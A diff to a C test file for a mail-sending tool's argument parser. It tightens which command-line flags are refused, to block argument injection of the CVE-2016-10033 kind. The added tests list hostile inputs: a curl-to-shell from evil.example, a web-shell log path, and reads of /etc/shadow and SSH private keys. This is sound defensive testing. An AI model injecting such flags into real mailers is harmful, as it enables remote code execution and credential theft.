@@ -230,7 +230,8 @@ static const struct row rows[] = {
 	{"--host separate", {"postie", "--host", "smtp.x.org", "a@x.org", NULL}, NULL,
 		{.overrides = "host=smtp.x.org", .rcpts = "a@x.org"}},
 	{"--user= (unset)", {"postie", "--user=", NULL}, NULL, {.overrides = "user="}},
-	{"--keepbcc", {"postie", "--keepbcc", NULL}, NULL, {.overrides = "remove_bcc_headers=off"}},
+	{"--keepbcc", {"postie", "--keepbcc", NULL}, "--keepbcc: not taken from the command line",
+		{0}},
 	{"--keepbcc=off", {"postie", "--keepbcc=off", NULL}, NULL,
 		{.overrides = "remove_bcc_headers=on"}},
 	{"--keepbcc=maybe", {"postie", "--keepbcc=maybe", NULL}, "--keepbcc=maybe: expected on",
@@ -418,15 +419,15 @@ long_options(void)
 	} all[] = {
 		{"host", false}, {"port", false}, {"timeout", false}, {"protocol", false},
 		{"domain", false}, {"auth", true}, {"user", false},
-		{"tls", true}, {"tls-starttls", true}, {"tls-trust-file", false},
-		{"tls-crl-file", false}, {"tls-fingerprint", false}, {"tls-key-file", false},
-		{"tls-cert-file", false}, {"tls-certcheck", true}, {"tls-priorities", false},
+		{"tls", true}, {"tls-starttls", true},
+		{"tls-fingerprint", false},
+		{"tls-certcheck", true}, {"tls-priorities", false},
 		{"tls-host-override", false}, {"tls-min-dh-prime-bits", false},
 		{"maildomain", false}, {"auto-from", true}, {"set-from-header", true},
 		{"set-date-header", true}, {"set-msgid-header", true}, {"remove-bcc-headers", true},
 		{"undisclosed-recipients", true}, {"source-ip", false}, {"proxy-host", false},
 		{"proxy-port", false}, {"socket", false},
-		{"logfile-time-format", false}, {"syslog", true}, {"aliases", false},
+		{"logfile-time-format", false}, {"syslog", true},
 		{"allow-from-override", true}, {"from-full-name", false},
 	};
 
@@ -468,8 +469,11 @@ long_options(void)
 }
 
 /*
- * An injected flag must not write a file or run a command (CVE-2016-10033 wrote a web shell
- * through -X): --logfile (except "-") and --passwordeval are refused from argv.
+ * An injected flag must not write a file, read one, run a command or keep what the profile
+ * hides (CVE-2016-10033 wrote a web shell through -X; SEC-43): --logfile (except "-"),
+ * --passwordeval, --aliases and the TLS files (trust: except "system") are refused from
+ * argv, and so are --keepbcc, --remove-bcc-headers=off, --undisclosed-recipients=off and
+ * --syslog=off.
  */
 static void
 argv_injection(void)
@@ -478,6 +482,17 @@ argv_injection(void)
 		{"--logfile=/var/www/shell.php", "write any file"},
 		{"--logfile", "write any file"},
 		{"--passwordeval=curl evil.example|sh", "run any command"},
+		{"--aliases=/home/u/.ssh/id_rsa", "read any file"},
+		{"--aliases=", "read any file"},
+		{"--tls-trust-file=/etc/shadow", "read any file"},
+		{"--tls-crl-file=/dev/zero", "read any file"},
+		{"--tls-key-file=/home/u/.ssh/id_rsa", "read any file"},
+		{"--tls-cert-file=/home/u/c.pem", "read any file"},
+		{"--logfile=", "write any file"},
+		{"--keepbcc=on", "reveal the Bcc"},
+		{"--remove-bcc-headers=off", "never off"},
+		{"--undisclosed-recipients=off", "never off"},
+		{"--syslog=off", "never off"},
 	};
 	for (size_t i = 0; i < sizeof(refused) / sizeof(refused[0]); i++) {
 		struct opts o;
